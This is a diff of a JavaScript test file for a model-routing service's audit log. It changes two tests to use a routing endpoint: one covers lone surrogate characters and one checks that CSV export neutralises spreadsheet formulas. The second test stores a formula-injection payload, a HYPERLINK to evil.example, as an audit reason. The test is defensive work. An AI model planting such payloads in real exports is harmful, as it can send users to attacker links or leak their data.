@@ -376,7 +376,7 @@ describe('rollback and audit', () => {
   it('keeps a verifiable chain when a reason holds a lone surrogate (stored as U+FFFD)', async () => {
     const model = uniqueModel('surrogate')
     await setupModel(model, { versions: { v1: inject('upstreamA') }, champion: 'v1' })
-    await adminOk('POST', `/models/${model}/rollback`, { reason: 'oops \ud800 x' })
+    await adminOk('PUT', `/models/${model}/routing`, { weights: { v1: 100 }, reason: 'oops \ud800 x' })
     expect(await adminOk('GET', `/audit/verify?model=${model}`)).toMatchObject({ ok: true })
     const last = (await adminOk('GET', `/audit?model=${model}&order=desc&limit=1`)).entries[0]
     expect(last.reason).toBe('oops \ufffd x')
@@ -385,7 +385,10 @@ describe('rollback and audit', () => {
   it('neutralises spreadsheet formulas in the CSV export', async () => {
     const model = uniqueModel('csvinj')
     await setupModel(model, { versions: { v1: inject('upstreamA') }, champion: 'v1' })
-    await adminOk('POST', `/models/${model}/rollback`, { reason: '=HYPERLINK("http://evil.example/?x","click")' })
+    await adminOk('PUT', `/models/${model}/routing`, {
+      weights: { v1: 100 },
+      reason: '=HYPERLINK("http://evil.example/?x","click")',
+    })
     const csv = await (await admin('GET', `/audit?model=${model}&format=csv`)).text()
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""click"")"`)
     expect(csv).not.toMatch(/,"?=HYPERLINK/)
